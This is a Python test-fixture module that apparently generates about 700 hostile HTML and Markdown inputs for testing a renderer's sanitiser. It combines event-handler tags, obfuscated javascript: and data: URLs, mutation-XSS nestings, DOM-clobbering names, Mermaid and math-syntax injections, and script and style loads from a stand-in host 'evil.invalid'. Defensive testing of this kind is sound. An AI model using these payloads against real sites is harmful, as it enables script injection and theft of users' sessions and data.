# ruff: noqa: E501  a payload is one line
"""Hostile texts, made by combining what has broken renderers before: tags, handlers, schemes, nestings, Markdown syntax."""

from itertools import product

#: Where a payload's scripts and styles would come from; and the only place its images may.
EVIL = "https://evil.invalid"
ASKED = "https://asked.invalid"

_TAGS = ("svg", "math", "body", "details open", "video", "audio", "iframe", "object", "marquee", "select autofocus",
         "textarea autofocus", "input autofocus", "style", "form", "p", "b", "a href=#", "summary", "nexus-x", "h1 tabindex=1")  # fmt: skip
_HANDLERS = ("onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationend")
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript&colon;alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
    "javascript&#58;alert(1)", "javascript\u200b:alert(1)", "javascript://%0aalert(1)", "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "blob:x", "view-source:x", "nexus-slot:0-0",
    "&Tab;javascript&colon;alert(1)", "jav&NewLine;ascript:alert(1)", "//asked.invalid\\@x", "%6aavascript:alert(1)",
)  # fmt: skip
_LINKS = (
    '<a href="{}">x</a>', "<a href={}>x</a>", "[x](<{}>)", "[x]({})", "[x]: {}\n\n[x]", "<{}>", "[[{}]]", "![x](<{}>)",
    '<img src="{}">', '<form action="{}"><button>x</button></form>', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>', '<object data="{}"></object>', '<iframe src="{}"></iframe>', '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
)  # fmt: skip
_PAYLOAD = "<img src=x onerror=alert(1)>"
#: Elements whose content two parsers read differently, and what closes them in the second.
_NESTS = ("noscript", "style", "title", "textarea", "template", "xmp", "iframe", "noembed", "noframes", "plaintext",
          "svg><style", "math><mtext", "svg><desc", "svg><title", "svg><foreignobject", "math><annotation-xml", "select",
          "table", "math><mtext><table><mglyph><style", "svg></p><style", "form><math><mtext></form><form><mglyph><style")  # fmt: skip
_NESTINGS = (
    "<{0}><a title=\"</{1}>{2}\">x</a></{1}>", "<{0}><!--</{1}>{2}--></{1}>", "<{0}><![CDATA[</{1}>{2}]]></{1}>",
    "<{0}>{2}</{1}>", "<{0}>&lt;/{1}&gt;{2}",
)  # fmt: skip
_LOADS = (
    f"<link rel=stylesheet href={EVIL}/a.css>", f"<style>@import '{EVIL}/b.css'</style>", f"<script src={EVIL}/c.js></script>",
    f"<p style=\"background:url({EVIL}/d)\">x</p>", f"<table background={EVIL}/e><tr><td>x</table>",
    f"<img srcset='{EVIL}/f 1x'>", f"<picture><source srcset={EVIL}/g><img></picture>", f"<video poster={EVIL}/h>",
    f"<audio src={EVIL}/i autoplay>", f"<embed src={EVIL}/j>", f"<input type=image src={EVIL}/k>", f"<body background={EVIL}/l>",
    f"<iframe src={EVIL}/m>", f"<object data={EVIL}/n>", f"<svg><image href={EVIL}/o /><use href={EVIL}/p#x /></svg>",
    f"<link rel=prefetch href={EVIL}/q>", f"<link rel=dns-prefetch href={EVIL}>", f"<meta http-equiv=refresh content=0;url={EVIL}/r>",
    f"<a ping={EVIL}/s href=#>x</a>", f"<form action={EVIL}/t><button>x</button></form>", f"<track src={EVIL}/u>",
    f"<bgsound src={EVIL}/v>", f"<applet code={EVIL}/w>", f"<frameset><frame src={EVIL}/x></frameset>",
    f"<blockquote cite={EVIL}/y>x</blockquote>", f"<script type=importmap>{{\"imports\":{{\"x\":\"{EVIL}\"}}}}</script>",
    f"![x]({ASKED}/1.png)", f"<img src={ASKED}/2.png onerror=alert(1) onload=alert(1)>", f"![x]({ASKED}/3.png\"onload=\"alert(1))",
)  # fmt: skip
_NAMES = (
    "forms",
    "body",
    "location",
    "cookie",
    "ran",
    "alert",
    "main",
    "getElementById",
    "__proto__",
    "defaultView",
    "user-content-x",
)
_CLOBBERS = tuple(
    f"<{tag} {key}={name}>x" for tag, key, name in product(("a", "img", "form", "p"), ("id", "name"), _NAMES)
)
_MARKDOWN = (
    "```<img src=x onerror=alert(1)>\nx\n```", "```\"onmouseover=alert(1)//\nx\n```", "```mermaid\nclick A \"javascript:alert(1)\"\n```",
    "```mermaid\n%%{init:{\"securityLevel\":\"loose\"}}%%\ngraph TD\nA[\"<img src=x onerror=alert(1)>\"]\n```",
    "$\\href{javascript:alert(1)}{x}$", "$$\n</span><img src=x onerror=alert(1)>\n$$", "> [!NOTE]\n> <script>alert(1)</script>",
    "> [!<img src=x onerror=alert(1)>]\n> x", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: x",
    "| <img src=x onerror=alert(1)> |\n|-|\n| `<img src=x onerror=alert(1)>` |", "# <img src=x onerror=alert(1)>", "# x {#onload=alert(1)}",
    "![\"onerror=\"alert(1)](x)", "![x](x \"\\\" onerror=alert(1) \\\"\")", "[x](# \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](x\" onmouseover=\"alert(1))", "<https://x\"onmouseover=\"alert(1)>", "https://x.org/\"onmouseover=\"alert(1)", "[[x|<img src=x onerror=alert(1)>]]",
    "[[x\" onmouseover=\"alert(1)]]", "![[x.png\" onerror=\"alert(1)]]", "- [ ] <img src=x onerror=alert(1)>", "~~<script>alert(1)</script>~~",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "</article></main><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>", "<?x ><img src=x onerror=alert(1)>?>", "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "\ufeff<script>alert(1)</script>", "\x00<script>alert(1)</script>".replace("\x00", "&#0;"), "<script\u2028>alert(1)</script>", "\u202e<script>alert(1)</script>",
    "{{7*7}}{% load x %}{% include 'x' %}", "${alert(1)}", "<div hx-get=/ hx-trigger=load hx-on:load=alert(1)>x</div>", "<div data-span=\"0\" class=\"skip bar\" id=main>x</div>",
)  # fmt: skip

PAYLOADS: list[str] = [
    *(f"<{tag} {handler}=alert(1) src=x>x" for tag, handler in product(_TAGS, _HANDLERS)),
    *(link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)),
    *(nesting.format(nest, nest.rsplit("<", 1)[-1].strip("</"), _PAYLOAD) for nest, nesting in product(_NESTS, _NESTINGS)),
    *_LOADS, *_CLOBBERS, *_MARKDOWN,
]  # fmt: skip
"""Some 700 texts; each alone is harmless to a reader, or the renderer is broken."""

_SPOTS = (
    "# {0}\n\n# {0} again\n\ntext\n", "## Key Technologies\n\n- **{0}**: {0}\n- {0}\n", "## Challenges\n\n- **Challenge:** {0}. **Solution:** {0}\n",
    "## Practices\n\n- {0}\n", "---\ntitle: |\n  {0}\nlang: '{1}'\n---\n\n# x\n", "[a][{0}]\n\n[{0}]: x '{1}'\n",
)  # fmt: skip
POSITIONS: list[str] = [
    spot.format(payload, payload.replace("'", "''"))
    for spot, payload in product(_SPOTS, ("<script>alert(1)</script>", _PAYLOAD, "\" onmouseover=alert(1) x=\"", "</title><svg onload=alert(1)>"))
]  # fmt: skip
"""The same few where a text's title, outline, entries and references come from."""
